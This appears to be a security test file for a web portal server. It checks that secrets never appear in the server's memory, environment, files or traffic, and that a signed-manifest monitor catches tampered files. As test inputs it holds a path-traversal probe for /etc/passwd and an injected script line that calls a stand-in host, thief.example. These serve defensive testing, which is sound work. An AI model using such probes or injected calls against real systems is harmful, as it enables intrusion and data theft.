// The portal's server in an attacker's hands: its files, its memory and its traffic hold no key, no token, no data; and
// whoever alters what it serves is noticed.
import '../support/own-state.ts';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { createPublicKey, generateKeyPairSync } from 'node:crypto';
import { appendFileSync, globSync, closeSync, openSync, readFileSync, readlinkSync, readSync } from 'node:fs';
import type { Server as HttpServer } from 'node:http';
import { connect, createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { ROOT, stateFolder } from '../../src/ground/index.ts';
import { buildPages, comparePortal, createPortalServer, publishPortal, releaseKey } from '../../src/servers/index.ts';
import { callAs, signIn } from '../support/portal-client.ts';
import { freeUrl, listen, startWorld, type World } from '../support/world.ts';

let world: World;
let folder = '';
before(async () => {
  world = await startWorld({ persons: 300, professionals: 60 });
  folder = join(stateFolder('portal'), 'release');
  publishPortal({ built: await buildPages('portal'), target: folder, addresses: { api: world.apiUrl, auth: world.issuer }, key: releaseKey() });
});
const servers: HttpServer[] = [];
const serve = (from: string): Promise<string> => {
  const server = createPortalServer(from);
  servers.push(server);
  return listen(server);
};
const stop = (server: HttpServer): Promise<unknown> => new Promise((resolve) => { server.close(resolve); server.closeAllConnections(); });
after(async () => { await Promise.all(servers.map(stop)); await world.close(); });

const signed = (): { manifest: string; signature: string; key: ReturnType<typeof createPublicKey> } => ({ manifest: readFileSync(join(folder, 'manifest.json'), 'utf8'), signature: readFileSync(join(folder, 'manifest.sig'), 'utf8'), key: createPublicKey(releaseKey()) });

// Everything a process has in memory, as the attacker who has its machine reads it.
function memoryOf(pid: number): Buffer {
  const parts: Buffer[] = [];
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  for (const line of readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
    if (from === undefined || to === undefined) continue;
    const part = Buffer.alloc(Math.min(Number.parseInt(to, 16) - Number.parseInt(from, 16), 256 * 1024 * 1024));
    try {
      parts.push(part.subarray(0, readSync(memory, part, 0, part.length, Number.parseInt(from, 16))));
    } catch {
      // Not mapped any more.
    }
  }
  closeSync(memory);
  return Buffer.concat(parts);
}

// A tap on the wire before the server: what an attacker there reads of its traffic.
async function tapped(port: number): Promise<{ url: string; bytes: Buffer[]; close(): void }> {
  const bytes: Buffer[] = [];
  const tap: Server = createServer((client) => {
    const server = connect(port, '127.0.0.1');
    client.on('data', (chunk: Buffer) => bytes.push(chunk)).on('error', () => undefined).pipe(server);
    server.on('data', (chunk: Buffer) => bytes.push(chunk)).on('error', () => undefined).pipe(client);
  });
  const { port: own } = await freeUrl();
  await new Promise<void>((resolve) => { tap.listen(own, '127.0.0.1', resolve); });
  return { url: `http://127.0.0.1:${own}`, bytes, close: () => tap.close() };
}

test('its process, with a portal in use beside it: no key, no token, no data in files, environment, memory, connections or traffic', async () => {
  const { port } = await freeUrl();
  const child: ChildProcess = spawn(process.execPath, ['--disable-warning=ExperimentalWarning', join(ROOT, 'src/cli/main.ts'), 'serve', 'portal', '--port', String(port)], { stdio: ['ignore', 'ignore', 'inherit', 'ipc'], env: { PATH: process.env['PATH'], REMPART_PORTAL_FOLDER: folder } });
  try {
    await new Promise((resolve, reject) => { child.once('message', resolve).once('exit', reject); });
    const tap = await tapped(port);
    const planted = `planted-${crypto.randomUUID()}`;
    await fetch(`${tap.url}/${planted}`);
    const session = await signIn(world, `8${world.sandbox.establishments[0]?.professionals[1]}`);
    for (let i = 0; i < 20; i += 1) {
      await fetch(`${tap.url}/?code=x&state=y`);
      await callAs(world, session, '/v1/checks', world.question({ reference: `R${i}` }));
    }
    const secrets = [world.person.nir, session.token, session.refreshToken, readFileSync(join(stateFolder('keys'), 'index-1.key')).toString('hex'), readFileSync(join(stateFolder('release'), 'signing.pem'), 'utf8').split('\n')[1] ?? '', process.env['REMPART_TEST_PASSWORD'] ?? ''].filter((secret) => secret !== '');
    assert.equal(secrets.length, 6);
    const places = { memory: memoryOf(child.pid ?? 0), environment: readFileSync(`/proc/${child.pid}/environ`), traffic: Buffer.concat(tap.bytes), files: Buffer.concat(globSync('**/*', { cwd: folder, withFileTypes: true }).filter((e) => e.isFile()).map((e) => readFileSync(join(e.parentPath, e.name)))) };
    assert.ok(places.traffic.includes(planted), 'the search finds what was planted');
    assert.ok(places.memory.length > 10_000_000 && places.memory.includes('REMPART_PORTAL_FOLDER'), 'memory was really read');
    for (const [place, bytes] of Object.entries(places)) for (const [i, secret] of secrets.entries()) assert.ok(!bytes.includes(secret), `secret ${i} in ${place}`);
    // It talks to nobody: every TCP socket of the process is at its own port.
    const sockets = new Set(globSync(`/proc/${child.pid}/fd/*`).map((fd) => /socket:\[(\d+)\]/.exec(readlinkSync(fd))?.[1] ?? 'no socket'));
    const tcp = ['tcp', 'tcp6'].flatMap((file) => readFileSync(`/proc/net/${file}`, 'utf8').split('\n').slice(1)).map((line) => line.trim().split(/\s+/)).filter((fields) => sockets.has(fields[9] ?? ''));
    assert.ok(tcp.length > 0, 'it listens');
    assert.deepEqual([...new Set(tcp.map((fields) => Number.parseInt(fields[1]?.split(':')[1] ?? '', 16)))], [port]);
    tap.close();
  } finally {
    child.kill('SIGKILL');
  }
});

test('no route but its files: nothing is proxied, nothing is written', async () => {
  const url = await serve(folder);
  for (const path of ['/v1/checks', '/token', '/%2e%2e/%2e%2e/etc/passwd', '/.env']) assert.equal((await fetch(`${url}${path}`)).status, 404, path);
  for (const method of ['POST', 'PUT', 'DELETE', 'OPTIONS']) assert.equal((await fetch(url, { method })).status, 405);
  const policy = (await fetch(url)).headers.get('content-security-policy') ?? '';
  assert.ok(policy.startsWith("default-src 'none'") && !/unsafe-inline|unsafe-eval'(?!;)|\*/.test(policy.replace("'wasm-unsafe-eval'", '')), policy);
});

test('integrity on the entry’s script and style; first load under 250 kB compressed', async () => {
  const page = readFileSync(join(folder, 'index.html'), 'utf8');
  const entries = [...page.matchAll(/<(?:script|link)[^>]*(?:src|href)="(\/assets\/[^"]+)"[^>]*>/g)];
  assert.ok(entries.length >= 2 && entries.every(([tag]) => /integrity="sha384-/.test(tag)), page);
  const size = [gzipSync(page), ...entries.map(([, path]) => gzipSync(readFileSync(join(folder, path ?? ''))))].reduce((sum, file) => sum + file.length, 0);
  assert.ok(size < 250_000, `${size} bytes`);
  assert.ok(!/https?:\/\/(?!127\.0\.0\.1|www\.w3\.org)/.test(page), 'no third party');
});

test('the monitor sees a changed file, a changed header, a server that is gone, a forged manifest; and nothing when all is well', async () => {
  const url = await serve(folder);
  assert.deepEqual(await comparePortal({ url, ...signed() }), []);
  const { privateKey } = generateKeyPairSync('ed25519');
  assert.deepEqual(await comparePortal({ url, ...signed(), key: createPublicKey(privateKey) }), [{ path: 'manifest.json', what: 'signature' }]);
  const [altered, good] = [join(stateFolder('portal'), 'altered'), signed()];
  publishPortal({ built: await buildPages('portal'), target: altered, addresses: { api: world.apiUrl, auth: world.issuer }, key: releaseKey() });
  const script = globSync('assets/index-*.js', { cwd: altered })[0] ?? '';
  appendFileSync(join(altered, script), '\nfetch("https://thief.example/");');
  const wickedUrl = await serve(altered);
  assert.deepEqual(await comparePortal({ url: wickedUrl, ...good }), [{ path: script, what: 'content' }]);
  const lax = publishPortal({ built: await buildPages('portal'), target: altered, addresses: { api: 'https://thief.example', auth: world.issuer }, key: privateKey });
  const otherUrl = await serve(altered);
  const found = await comparePortal({ url: otherUrl, ...good });
  assert.equal(found.filter((d) => d.what === 'header').length, Object.keys(lax.files).length);
  assert.ok(found.some((d) => d.path === 'index.html' && d.what === 'content'));
  await Promise.all(servers.map(stop));
  assert.ok((await comparePortal({ url, ...good })).every((d) => d.what === 'unreachable'));
});
